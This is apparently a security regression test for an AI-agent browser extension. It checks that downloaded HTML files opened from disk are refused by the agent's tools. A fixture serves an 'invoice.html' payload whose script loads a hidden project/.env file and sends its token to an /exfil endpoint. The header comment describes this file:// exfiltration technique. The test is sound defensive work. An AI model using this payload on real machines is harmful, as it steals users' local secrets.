/**
 * Any web page can make the browser download a file (browser_download, or the page's own
 * `<a download>`, which needs no approval). With file:// pages on, an HTML file the browser
 * downloaded, opened from disk, runs its scripts as a file:// page: it loaded a hidden
 * `project/.env` as a script (its KEY="value" lines become globals) and sent the value to a web
 * server, with no tool touching the hidden file. Now the tools refuse to open or use a file the
 * browser downloaded unless it is of a type that runs no script (PDF, picture, text). Performed as
 * an agent would (REST tool calls), in real Chromium with the real extension.
 */
import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from 'bun:test';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { allowFileUrls, expectPageRefused, startBrowserHarness, waitUntil, type BrowserHarness } from '../harness/browser.ts';

setDefaultTimeout(180_000);

let h: BrowserHarness;
let home = '';
const SECRET = 's3cr3t-d0wnl0ad-5c1e';
/** What the downloaded page sent out. */
const received: string[] = [];

beforeAll(async () => {
  home = mkdtempSync(join(tmpdir(), 'opentabs-s21l-download-'));
  mkdirSync(join(home, 'project'));
  mkdirSync(join(home, 'notes'));
  writeFileSync(join(home, 'project', '.env'), `TOKEN="${SECRET}"\n`);
  writeFileSync(join(home, 'notes', 'plain.html'), '<!doctype html><p>an ordinary local note</p>');
  h = await startBrowserHarness({
    permissions: { browser: { default: 'auto' } },
    routes: (req) => {
      const u = new URL(req.url);
      if (u.pathname === '/exfil') {
        received.push(u.searchParams.get('v') ?? '');
        return new Response('ok', { headers: { 'access-control-allow-origin': '*' } });
      }
      if (u.pathname === '/invoice.html') {
        const exfil = new URL('/exfil', u.origin).href;
        const page = `<!doctype html><title>invoice</title><script src="file://${home}/project/.env"></script><script>fetch(${JSON.stringify(exfil)} + '?v=' + encodeURIComponent(String(window.TOKEN)), { mode: 'no-cors' })</script><p>Invoice</p>`;
        return new Response(page, { headers: { 'content-type': 'text/html' } });
      }
      if (u.pathname === '/notes.txt') return new Response('just text\n', { headers: { 'content-type': 'text/plain' } });
      return undefined;
    },
  });
  await allowFileUrls(h, `file://${home}/notes/plain.html`);
  // Files keep their names, as in a user's browser (Playwright's own setting names them by GUID).
  mkdirSync(join(home, 'Downloads'));
  const browser = h.context.browser();
  const cdp = await browser!.newBrowserCDPSession();
  await cdp.send('Browser.setDownloadBehavior', { behavior: 'allow', downloadPath: join(home, 'Downloads'), eventsEnabled: true });
}, 120_000);

afterAll(async () => {
  await h?.stop();
  if (home) rmSync(home, { recursive: true, force: true });
});

type Listed = { downloadId: number; filename: string; state: string };

/** Download `path` from the fixture server through the agent's tool; the file's path on disk once complete. */
async function download(path: string, filename: string): Promise<string> {
  const r = await h.callTool('browser_download', { url: h.fixtureUrl(path), filename });
  expect(r.status).toBe(200);
  const id = r.body.result.downloadId as number;
  const done = await waitUntil(async () => {
    const list = (await h.callTool('browser_list_downloads', { limit: 100 })).body.result.downloads as Listed[];
    return list.find((d) => d.downloadId === id && d.state === 'complete');
  }, `the download of ${path}`);
  expect(done.filename).not.toBe('');
  return done.filename;
}

const fileUrl = (path: string) => `file://${path.split('/').map(encodeURIComponent).join('/')}`;

describe('a page the browser downloaded, opened from disk', () => {
  test('is refused to every tool that would open or use it; its scripts never run', async () => {
    const saved = await download('/invoice.html', 'invoice.html');
    const url = fileUrl(saved);
    const open = await h.callTool('browser_open_tab', { url });
    expectPageRefused(open, 'browser_open_tab', /a file the browser downloaded from the web/);
    const win = await h.callTool('browser_create_window', { url });
    expectPageRefused(win, 'browser_create_window', /a file the browser downloaded/);
    const tab = await h.callTool('browser_open_tab', { url: h.fixtureUrl('/pages/index.html') });
    expect(tab.status).toBe(200);
    const nav = await h.callTool('browser_navigate_tab', { tabId: tab.body.result.id, url });
    expectPageRefused(nav, 'browser_navigate_tab', /a file the browser downloaded/);
    expect(received).toEqual([]);
    // Opened by the user (as a click in the file manager would): the tools refuse the tab.
    const page = await h.context.newPage();
    await page.goto(url);
    // browser_list_tabs shows a refused tab's URL as its scheme only: ask Chrome for the id.
    const tabId = await waitUntil(() => h.worker.evaluate(async (u) => (await chrome.tabs.query({})).find((t) => t.url === u)?.id, url), 'the tab the user opened');
    expectPageRefused(await h.callTool('browser_get_tab_content', { tabId }), 'browser_get_tab_content', /a file the browser downloaded/);
    await page.close();
    await h.callTool('browser_close_tab', { tabId: tab.body.result.id });
  });

  test('a downloaded text file and a local page the browser did not download still open', async () => {
    const saved = await download('/notes.txt', 'notes.txt');
    for (const url of [fileUrl(saved), `file://${home}/notes/plain.html`]) {
      const r = await h.callTool('browser_open_tab', { url });
      expect([url, r.status]).toEqual([url, 200]);
      await h.callTool('browser_close_tab', { tabId: r.body.result.id });
    }
  });
});
